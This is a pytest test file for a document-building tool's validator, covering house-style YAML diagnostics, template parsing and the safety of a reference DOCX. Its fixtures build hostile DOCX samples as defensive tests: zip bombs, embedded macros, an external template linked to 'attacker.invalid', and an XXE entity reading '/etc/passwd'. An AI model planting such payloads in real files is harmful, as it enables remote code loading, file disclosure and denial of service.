"""A house style's files are checked before use: style.yaml with positions, templates parse,
reference.docx is a plain, safe DOCX."""

from __future__ import annotations

import io
import shutil
import zipfile

import pytest

from tests.conftest import DATA, ROOT, minimal_text, run_pcd

STYLES = DATA / "styles"
REFERENCE = ROOT / "templates" / "mopac" / "reference.docx"

EXPECTED = {
    "bad-values": [
        "3:1: error[PCD010] organisaton: unknown key 'organisaton'; did you mean 'organisation'?",
        "4:7: error[PCD016] code: 'acme' does not match the expected form [A-Z]{2,5}",
        "5:13: error[PCD012] short_name: expected text, found a list",
        "7:43: error[PCD016] authorities.boss.rank: 500 is outside 1–99",
        "8:45: error[PCD012] authorities.deputy.rank: expected a whole number, found 'two'",
        "9:14: error[PCD012] paper_label: expected text, found the yes/no value 'true' (quote it)",
        "10:16: error[PCD016] decision_type: the text is 82 characters; at most 80 are allowed here",
        "11:18: error[PCD016] money_forbidden: a group repeats, as in (a+)+ or ((\\w+\\s?))+: only "
        "a single character or class may: such a pattern can take hours to search a paragraph; "
        "rewrite it",
        "13:23: error[PCD016] delegation[0].action: 'spend_money' is not one of: any, "
        "accept_funding, budget_drawdown, onward_grant, contract_award, contract_change",
        "13:65: error[PCD013] delegation[0].value_from: '1.5' is a YAML float, which cannot hold "
        "money exactly: write whole pounds (1) or quote pence ('1.50')",
        "15:3: error[PCD010] texts.summary_headng: unknown key 'summary_headng'; did you mean "
        "'summary_heading'?",
    ],
    "loop-a": ["loop-b/style.yaml:2:10: error[PCD060] extends: 'extends' goes round in a circle: "
               "loop-a → loop-b → loop-a"],
    "orphan": ["1:10: error[PCD060] extends: extends 'mopak', which is not a house style on the "
               "style path; did you mean 'mopac'?"],
}


def check_in(style: str, tmp_path, styles=STYLES):
    spec = tmp_path / "s.yaml"
    spec.write_text(f"house_style: {style}\n" + minimal_text())
    return run_pcd("check", "--style-dir", str(styles), str(spec))


@pytest.mark.parametrize("style", EXPECTED)
def test_a_bad_style_file_gets_positioned_diagnostics(tmp_path, style):
    result = check_in(style, tmp_path)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    lines = result.stdout.splitlines()
    assert lines[0] == f"{tmp_path}/s.yaml:1:14: error[PCD017] house_style: house style '{style}' has errors (below)"
    prefix = f"{STYLES}/" + ("" if "/" in EXPECTED[style][0].split(":")[0] else f"{style}/style.yaml:")
    assert lines[1:-1] == [prefix + e for e in EXPECTED[style]]


def test_names_one_part_of_a_style_gives_another_must_exist(tmp_path):
    folder = tmp_path / "styles" / "acme"
    folder.mkdir(parents=True)
    (folder / "style.yaml").write_text("extends: mopac\nchief_executive: ceo_x\ndelegation:\n"
                                       "  - {id: all, action: any, authority: dmcp}\n")
    out = check_in("acme", tmp_path, tmp_path / "styles").stdout
    assert "acme/style.yaml:2:18: error[PCD016] chief_executive: 'ceo_x' is not one of the style's " \
           "authorities: dmpc, ceo; did you mean 'ceo'?" in out
    assert "acme/style.yaml:4:39: error[PCD016] delegation[0].authority: 'dmcp' is not one of the " \
           "style's authorities: dmpc, ceo; did you mean 'dmpc'?" in out


@pytest.mark.parametrize("folder", [ROOT / "templates", STYLES])
def test_the_shipped_and_example_styles_are_clean(folder):
    from authoring.housestyle import load_style
    for name in ("mopac", "gla"):
        assert load_style(name, (str(folder),)).data["code"]


def test_a_template_that_does_not_parse_stops_the_build(tmp_path):
    spec = tmp_path / "s.yaml"
    spec.write_text("house_style: bad-template\n" + minimal_text())
    result = run_pcd("build", "--style-dir", str(STYLES), str(spec), "-o", str(tmp_path / "out"))
    assert result.returncode == 1 and not (tmp_path / "out").exists()
    html = STYLES / "bad-template" / "html"
    assert result.stderr.splitlines()[:2] == [
        f"{html}/_broken.html:2:1: error[PCD061] template _broken.html does not parse: Unexpected end "
        "of template. Jinja was looking for the following tags: 'elif' or 'else' or 'endif'. The "
        "innermost block that needs to be closed is 'if'.",
        f"{html}/paper.html:10:1: error[PCD061] template paper.html does not parse: unexpected '}}'"]


# -- reference.docx -----------------------------------------------------------------------------

def rebuilt(change=None, add: dict | None = None, method=zipfile.ZIP_DEFLATED) -> bytes:
    """The shipped reference document with parts changed (name -> bytes -> bytes) or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(REFERENCE) as src, zipfile.ZipFile(out, "w", method) as dst:
        for info in src.infolist():
            data = src.read(info)
            dst.writestr(info.filename, change(info.filename, data) if change else data)
        for name, data in (add or {}).items():
            dst.writestr(name, data)
    return out.getvalue()


def replace_in(part: str, old: bytes, new: bytes):
    def change(name: str, data: bytes) -> bytes:
        if name == part:
            assert old in data
            return data.replace(old, new, 1)
        return data
    return change


EXTERNAL = (b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            b'relationships/attachedTemplate" Target="http://attacker.invalid/t.dotm" '
            b'TargetMode="External"/></Relationships>')
BAD_REFERENCES = {
    "not-a-zip": (lambda: b"%PDF-1.4 not a zip", "the reference document is not a DOCX (not a zip "
                  "package, or truncated)"),
    "zip-bomb": (lambda: rebuilt(add={"word/media/bomb.xml": b"\0" * (30 * 1024 * 1024)}),
                 "part word/media/bomb.xml unpacks to 31,457,280 bytes; at most 20,971,520 are allowed"),
    "ratio-bomb": (lambda: rebuilt(add={"word/media/pad.xml": b"\0" * (5 * 1024 * 1024)}),
                   "part word/media/pad.xml expands 1,026 times: refused as a zip bomb"),
    "too-big": (lambda: rebuilt(add={"word/media/p.bin": bytes(range(256)) * 45000},
                                method=zipfile.ZIP_STORED),
                "the reference document is 11,5"),
    "many-small-bombs": (lambda: rebuilt(add={f"word/media/p{i}.xml": b"\0" * (1024 * 1024)
                                              for i in range(60)}),
                         "the package unpacks to 62,954,"),
    "macros": (lambda: rebuilt(add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
               "the reference document contains macros (a .docm or vbaProject.bin): save it as a "
               "plain .docx"),
    "macro-content-type": (lambda: rebuilt(replace_in(
        "[Content_Types].xml", b"document.main+xml",
        b"document.macroEnabled.main+xml")), "the reference document contains macros"),
    "external-template": (lambda: rebuilt(replace_in(
        "word/_rels/document.xml.rels", b"</Relationships>", EXTERNAL)),
        "part word/_rels/document.xml.rels brings in another document (attachedTemplate "
        "'http://attacker.invalid/t.dotm'): the reference document must be self-contained"),
    "entities": (lambda: rebuilt(replace_in(
        "word/styles.xml", b"?>", b"?><!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>")),
        "part word/styles.xml declares a DTD or entities, which a DOCX never needs"),
    "font-size": (lambda: rebuilt(replace_in("word/styles.xml", b'<w:sz w:val="52"/>',
                                             b'<w:sz w:val="2000"/>')),
                  "word/styles.xml: style 'TitleChar' sets a font size of 1000 pt, outside 6–96 pt"),
    "colour": (lambda: rebuilt(replace_in("word/styles.xml", b'<w:color w:val="0B0C0C"/>',
                                          b'<w:color w:val="red;x"/>')),
               "word/styles.xml: the colour 'red;x' is not six hex digits or 'auto'"),
    "margin": (lambda: rebuilt(replace_in("word/document.xml", b'w:left="1247"', b'w:left="99999"')),
               "word/document.xml: the left margin is 69.44 in, outside 0–4 in"),
    "page": (lambda: rebuilt(replace_in("word/document.xml", b'w:w="11906"', b'w:w="100"')),
             "word/document.xml: the page size is 0.07 in, outside 2–22 in"),
    "no-styles": (lambda: rebuilt(lambda n, d: d if n != "word/styles.xml" else b"",
                                  ) .replace(b"word/styles.xml", b"word/stylez.xml"),
                  "part word/stylez.xml is not well-formed XML: Document is empty"),
}


@pytest.mark.parametrize("name", BAD_REFERENCES)
def test_a_bad_reference_document_is_refused(tmp_path, name):
    from authoring.housestyle import StyleError
    from authoring.render.reference import check_reference

    make, message = BAD_REFERENCES[name]
    path = tmp_path / "reference.docx"
    path.write_bytes(make())
    with pytest.raises(StyleError) as err:
        check_reference(path)
    (d,) = err.value.diagnostics
    assert d.code == "PCD063" and d.file == str(path)
    assert d.message.startswith(message), d.message


def test_the_shipped_reference_document_passes():
    from authoring.render.reference import check_reference
    check_reference(REFERENCE)


def test_a_build_with_a_bad_reference_document_writes_nothing(tmp_path):
    folder = tmp_path / "styles" / "acme"
    folder.mkdir(parents=True)
    (folder / "style.yaml").write_text("extends: mopac\n")
    (folder / "reference.docx").write_bytes(BAD_REFERENCES["external-template"][0]())
    spec = tmp_path / "s.yaml"
    spec.write_text("house_style: acme\n" + minimal_text())
    result = run_pcd("build", "--style-dir", str(tmp_path / "styles"), str(spec), "-o", str(tmp_path / "out"))
    assert result.returncode == 1 and not (tmp_path / "out").exists()
    assert result.stderr.startswith(f"{folder}/reference.docx: error[PCD063] part word/_rels/")


def test_a_reference_document_linking_outside_its_style_is_refused(tmp_path):
    folder = tmp_path / "styles" / "acme"
    folder.mkdir(parents=True)
    (folder / "style.yaml").write_text("extends: mopac\n")
    shutil.copy(REFERENCE, tmp_path / "elsewhere.docx")
    (folder / "reference.docx").symlink_to(tmp_path / "elsewhere.docx")
    spec = tmp_path / "s.yaml"
    spec.write_text("house_style: acme\n" + minimal_text())
    result = run_pcd("build", "--style-dir", str(tmp_path / "styles"), str(spec), "-o", str(tmp_path / "out"))
    assert result.returncode == 1 and not (tmp_path / "out").exists()
    assert f"{folder}/reference.docx: error[PCD064] reference.docx is a link to a file outside" in result.stderr
